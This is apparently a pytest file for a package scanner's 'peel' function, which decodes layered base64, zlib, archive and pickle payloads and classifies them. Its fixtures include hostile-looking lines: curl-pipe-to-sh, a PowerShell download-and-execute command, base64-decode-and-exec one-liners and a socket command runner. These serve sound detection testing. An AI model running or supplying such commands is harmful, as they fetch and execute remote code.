"""Peeling: what counts as a payload, what stands inside it, and where it stops."""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import marshal
import pickle
import random
import tarfile
import tracemalloc
import uuid
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pydepgate import limits
from pydepgate.limits import DEEPEST
from pydepgate.model import Layer, Literal, Payload
from pydepgate.payload.peel import Budget, Inside, peel

PROGRAM = (
    b"import os\nimport socket\nimport subprocess\n\n\ndef run(name):\n    "
    b"return subprocess.check_output(['echo', name])\n\n\nfor item in os.listdir('.'):\n    print(run(item))\n"
)
COMMAND = b"curl -s https://files.example/install.sh | sh"


def literal(value: str | bytes, form: str = "", layers: tuple[Layer, ...] = ()) -> Literal:
    form = form or ("bytes" if isinstance(value, bytes) else "str")
    return Literal(value, form, 3, 5, len(value), layers)


def noise(size: int) -> bytes:
    return random.Random(size).randbytes(size)


def peeled(value: str | bytes, *, bytes_left: int = 10**7, depth_limit: int = 16) -> Payload:
    payload = peel(literal(value), budget=Budget(bytes_left, depth_limit))
    assert payload is not None
    return payload


def test_a_payload_says_where_it_stands_and_what_it_is() -> None:
    encoded = base64.b64encode(zlib.compress(PROGRAM)).decode()
    payload = peeled(encoded)
    assert (payload.line, payload.column, payload.form, payload.length) == (3, 5, "str", len(encoded))
    packed = zlib.compress(PROGRAM)
    assert payload.layers == (
        Layer("base64", len(encoded), len(packed), packed[: limits.PREVIEW_BYTES]),
        Layer("zlib", len(packed), len(PROGRAM), PROGRAM[: limits.PREVIEW_BYTES]),
    )
    assert (payload.final, payload.size) == ("python-source", len(PROGRAM))
    assert payload.sha256 == hashlib.sha256(PROGRAM).hexdigest()
    assert payload.preview == PROGRAM[: limits.PREVIEW_BYTES]
    assert [one.value for one in payload.indicators if one.kind == "import"][:3] == ["os", "socket", "subprocess"]
    assert payload.stopped == ""
    assert payload.content is None


def test_content_is_kept_only_when_asked_for() -> None:
    payload = peel(literal(base64.b64encode(PROGRAM)), budget=Budget(keep_content=True))
    assert payload is not None
    assert payload.content == PROGRAM


@pytest.mark.parametrize(
    "value",
    [
        "abcdefgh",
        "https",
        "DEADBEEF",
        "aRatherLongCamelCaseIdentifierName",
        "some_function_name_with_underscores",
        "ConfigurationPropertiesFactoryBean2",
        "usr/lib/python3/dist-packages/module",
        hashlib.md5(b"x").hexdigest(),
        hashlib.sha1(b"x").hexdigest(),
        hashlib.sha512(b"x").hexdigest().upper(),
        str(uuid.UUID(int=0x1234567890ABCDEF1234567890ABCDEF)),
        base64.b64encode(noise(32)).decode(),
        base64.b64encode(noise(256)).decode(),
        base64.b32encode(noise(20)).decode(),
        "0123456789" * 8,
        "3.14159265358979323846264338327950288419716939937510",
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
        "red green blue cyan magenta yellow black white orange purple brown pink",
        ".button { color: #ff00aa; margin: 0 auto } a:hover { text-decoration: none }",
        "-" * 70,
        "a" * 64,
        "a" * 5000,
        "x = 3, y = 4, z = 5",
        "1, 2, 3, 4, 5, 6, 7, 8, 9, 10",
        "127.0.0.1 255.255.255.0 10.0.0.1",
        "%(asctime)s %(levelname)-8s %(name)s: %(message)s",
        "^[\\x00-\\x1f\\x7f-\\xff]+$",
        "Hello, world!\nThis is a text of two lines.\n",
        "Обычный русский текст, в котором ничего не спрятано и нечего искать.",
        "これは普通の日本語の文章です。特に何も隠されていません。ただの説明文です。",
        "",
        noise(16),
        noise(5000),
        bytes(64),
    ],
)
def test_ordinary_literals_are_nothing(value: str | bytes) -> None:
    assert peel(literal(value), budget=Budget()) is None


@given(st.from_regex(r"[a-zA-Z_]{1,12}([ ./_-][a-zA-Z]{1,12}){0,8}", fullmatch=True))
@settings(max_examples=200, deadline=None)
def test_words_and_names_are_never_programs(text: str) -> None:
    payload = peel(literal(text), budget=Budget())
    assert payload is None or not payload.layers or payload.final in ("text", "json")


@pytest.mark.parametrize("text", ["os.system('id')", "https://files.example/a", "import os, sys", COMMAND.decode()])
def test_a_short_literal_peels_when_it_tells(text: str) -> None:
    payload = peeled(base64.b64encode(text.encode()).decode())
    assert [layer.codec for layer in payload.layers] == ["base64"]
    assert payload.preview == text.encode()


def test_a_long_literal_with_unknown_bytes_is_told_of() -> None:
    payload = peeled(base64.b64encode(noise(3000)).decode())
    assert ([layer.codec for layer in payload.layers], payload.final) == (["base64"], "binary")


def test_unknown_bytes_under_a_checksum_are_told_of() -> None:
    payload = peeled(base64.b64encode(zlib.compress(noise(60))).decode())
    assert [layer.codec for layer in payload.layers] == ["base64", "zlib"]


@pytest.mark.parametrize(
    ("value", "final"),
    [
        (PROGRAM.decode(), "python-source"),
        (PROGRAM, "python-source"),
        ("import os; os.system('id')", "python-source"),
        (pickle.dumps(["a", {"b": 3}]), "pickle"),
    ],
)
def test_what_tells_as_it_stands(value: str | bytes, final: str) -> None:
    payload = peeled(value)
    assert (payload.layers, payload.final) == ((), final)


def test_a_docstring_with_an_example_is_nothing() -> None:
    assert peel(literal(PROGRAM.decode(), "docstring"), budget=Budget()) is None


def test_layers_that_the_code_applies_come_first() -> None:
    applied = Layer("xor", 9, 9)
    payload = peel(literal(base64.b64encode(PROGRAM), "folded", (applied,)), budget=Budget())
    assert payload is not None
    assert [layer.codec for layer in payload.layers] == ["xor", "base64"]
    # What the code decodes is told of whatever it is.
    payload = peel(literal(noise(20), "folded", (applied,)), budget=Budget())
    assert payload is not None
    assert (payload.layers, payload.final) == ((applied,), "binary")


def test_python_source_is_looked_into() -> None:
    seen: list[tuple[bytes, int]] = []
    child = peeled(base64.b64encode(COMMAND))

    def look_inside(content: bytes, budget: Budget, depth: int) -> Inside:
        seen.append((content, depth))
        return Inside((child,), frozenset({"exec.dynamic"}))

    hidden = literal(base64.b64encode(zlib.compress(PROGRAM)))
    payload = peel(hidden, budget=Budget(), look_inside=look_inside, depth=4)
    assert payload is not None
    assert seen == [(PROGRAM, 7)]
    assert payload.children == (child,)
    assert payload.signals == {"exec.dynamic"}


def test_encoded_runs_in_a_text_are_children_with_a_place() -> None:
    script = "Invoke-WebRequest -Uri https://files.example/a.exe -OutFile $env:TEMP\\a.exe; iex $env:TEMP\\a.exe"
    inner = base64.b64encode(script.encode("utf-16-le")).decode()
    text = f"first line\nnaïve powershell -NoProfile -EncodedCommand {inner} and so on\n"
    payload = peeled(base64.b64encode(text.encode()))
    (child,) = payload.children
    assert (child.line, child.column, child.length) == (2, text.splitlines()[1].index(inner) + 1, len(inner))
    assert [layer.codec for layer in child.layers] == ["base64", "utf-16"]
    assert child.final == "powershell"


@pytest.mark.parametrize(
    "text",
    [
        "echo {} | base64 -d | sh",
        "<img src='data:image/png;base64,{}'>",
        "powershell -e {}",
        "python3 -c \"exec(__import__('base64').b64decode('{}'))\"",
    ],
)
def test_a_run_that_a_command_decodes_may_be_short(text: str) -> None:
    payload = peeled(text.format(base64.b64encode(COMMAND).decode()))
    assert COMMAND in {child.preview for child in walk(payload)}


def test_python_on_a_command_line_is_a_child() -> None:
    text = "start /b python3 -c 'import os,socket;s=socket.socket();os.system(s.recv(99))' > nul"
    (child,) = peeled(base64.b64encode(text.encode())).children
    assert (child.final, child.column) == ("python-source", text.index("import") + 1)


def walk(payload: Payload) -> list[Payload]:
    return [payload, *(below for child in payload.children for below in walk(child))]


def make_zip(files: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def make_tar(files: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return stream.getvalue()


FILES = {"a/run.py": PROGRAM, "readme.txt": b"plain words", "x.b64": base64.b64encode(COMMAND)}


@pytest.mark.parametrize("archive", [make_zip(FILES), gzip.compress(make_tar(FILES))], ids=["zip", "tar.gz"])
def test_members_of_archives_are_children(archive: bytes) -> None:
    asked: list[bytes] = []

    def look_inside(content: bytes, budget: Budget, depth: int) -> Inside:
        asked.append(content)
        return Inside(signals=frozenset({"process.start"}))

    payload = peel(literal(base64.b64encode(archive).decode()), budget=Budget(), look_inside=look_inside)
    assert payload is not None
    assert payload.final in ("zip", "tar")
    assert {child.member: child.final for child in payload.children} == {
        "a/run.py": "python-source",
        "readme.txt": "text",
        "x.b64": "shell-script",
    }
    assert asked == [PROGRAM]
    assert payload.signals == {"process.start"}


def test_of_a_broken_archive_what_can_be_read_is_read() -> None:
    archive = make_zip(FILES)
    payload = peeled(base64.b64encode(archive[: len(archive) // 2]))
    assert payload.final == "zip"
    assert (payload.children[0].member, payload.children[0].final) == ("a/run.py", "python-source")


def test_an_encrypted_member_is_named_and_said_to_be_unread() -> None:
    archive = bytearray(make_zip({"a/run.py": PROGRAM}))
    for header, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        archive[archive.index(header) + flags] |= 1
    (child,) = peeled(bytes(archive)).children
    assert (child.member, child.final, child.stopped) == ("a/run.py", "empty", "is encrypted and was not read")


def test_what_a_compressed_member_would_grow_to_is_never_made() -> None:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_BZIP2) as archive:
        archive.writestr("a.py", bytes(60_000_000))
    tracemalloc.start()
    try:
        (child,) = peeled(stream.getvalue(), bytes_left=1_000_000).children
        assert tracemalloc.get_traced_memory()[1] < 30_000_000
    finally:
        tracemalloc.stop()
    assert child.size == 1_000_000
    assert "--peek-budget" in child.stopped


def test_many_files_of_an_archive_do_not_hide_one() -> None:
    many = {f"{number}.txt": b"text" for number in range(200)}

    def look_inside(content: bytes, budget: Budget, depth: int) -> Inside:
        return Inside(signals=frozenset({"process.start"}))

    payload = peel(literal(make_zip(many | {"last.py": PROGRAM})), budget=Budget(), look_inside=look_inside)
    assert payload is not None
    assert payload.signals == {"process.start"}
    assert len(payload.children) == limits.MAX_CHILDREN
    assert payload.children[-1].member == "last.py"


def test_constants_of_bytecode_and_pickles_are_children() -> None:
    hidden = base64.b64encode(PROGRAM).decode()
    code = compile(f"x = {hidden!r}", "x.py", "exec")
    for data in (marshal.dumps(code), pickle.dumps({"run": hidden})):
        payload = peeled(base64.b64encode(data))
        assert payload.final in ("marshal", "pickle")
        assert [child.final for child in payload.children] == ["python-source"]


def test_children_are_bounded() -> None:
    many = {f"{number}.txt": b"text" for number in range(limits.MAX_CHILDREN + 10)}
    assert len(peeled(make_zip(many)).children) == limits.MAX_CHILDREN


def onion(layers: int) -> bytes:
    data = PROGRAM
    for _ in range(layers):
        data = base64.b64encode(data)
    return data


def test_depth_stops_and_says_so() -> None:
    payload = peeled(onion(5), depth_limit=3)
    assert len(payload.layers) == 3
    assert "--peek-depth" in payload.stopped
    assert peeled(onion(5), depth_limit=5).stopped == ""
    assert len(peeled(onion(5)).layers) == 5


def test_code_under_the_last_layer_is_still_analysed() -> None:
    depths: list[int] = []

    def look_inside(content: bytes, budget: Budget, depth: int) -> Inside:
        depths.append(depth)
        return Inside()

    assert peel(literal(onion(3)), budget=Budget(depth_limit=3), look_inside=look_inside) is not None
    inner = literal(PROGRAM, layers=(Layer("base64", 4, 3),))
    payload = peel(inner, budget=Budget(depth_limit=3), look_inside=look_inside, depth=3)
    assert depths == [4]
    assert payload is not None
    assert "--peek-depth" in payload.stopped


def test_no_depth_that_is_asked_for_overflows_the_stack() -> None:
    data = PROGRAM
    for _ in range(400):
        data = zlib.compress(data, 0)
    payload = peeled(data, depth_limit=10**9)
    assert len(payload.layers) == DEEPEST
    assert "--peek-depth" in payload.stopped


def test_the_budget_stops_and_says_so() -> None:
    bomb = base64.b64encode(zlib.compress(b"import os\n" * 1_000_000))
    payload = peeled(bomb, bytes_left=200_000)
    assert "--peek-budget" in payload.stopped
    assert payload.layers[-1].codec == "zlib"
    assert 0 < payload.size < 200_000


def test_all_literals_share_the_budget() -> None:
    budget = Budget(bytes_left=1000)
    assert peel(literal(base64.b64encode(PROGRAM)), budget=budget) is not None
    assert budget.bytes_left == 1000 - len(PROGRAM)
    budget.spend(10**9)
    assert budget.bytes_left == 0
    assert peel(literal(base64.b64encode(PROGRAM)), budget=budget) is None


def test_a_large_literal_of_unknown_bytes_leaves_budget_for_others() -> None:
    budget = Budget(bytes_left=4_000_000)
    assert peel(literal(base64.b64encode(noise(1_000_000))), budget=budget) is not None
    assert budget.bytes_left >= 2_000_000


def test_a_truncated_stream_keeps_its_head_and_says_so() -> None:
    packed = zlib.compress(PROGRAM + b"".join(b"print(%d)\n" % number for number in range(3000)))
    payload = peeled(base64.b64encode(packed[: len(packed) // 2]))
    assert payload.final == "python-source"
    assert payload.stopped == "zlib: the compressed data ends too early"


def test_members_of_an_archive_spend_from_the_budget() -> None:
    archive = make_zip({"a.py": b"import os\n" * 10_000, "b.py": PROGRAM})
    payload = peeled(archive, bytes_left=50_000)
    assert "--peek-budget" in payload.stopped
    assert sum(child.size for child in payload.children) <= 50_000


@given(st.binary(max_size=600))
@settings(max_examples=150, deadline=None)
def test_no_bytes_raise(data: bytes) -> None:
    peel(literal(data), budget=Budget())


@given(st.text(max_size=300))
@settings(max_examples=100, deadline=None)
def test_no_text_raises(text: str) -> None:
    peel(literal(text), budget=Budget())


def test_lone_surrogates_do_not_raise() -> None:
    assert peel(literal("\ud800" * 40), budget=Budget()) is None


def test_the_answer_is_the_same_twice() -> None:
    data = base64.b64encode(make_zip(FILES))
    assert peel(literal(data), budget=Budget()) == peel(literal(data), budget=Budget())
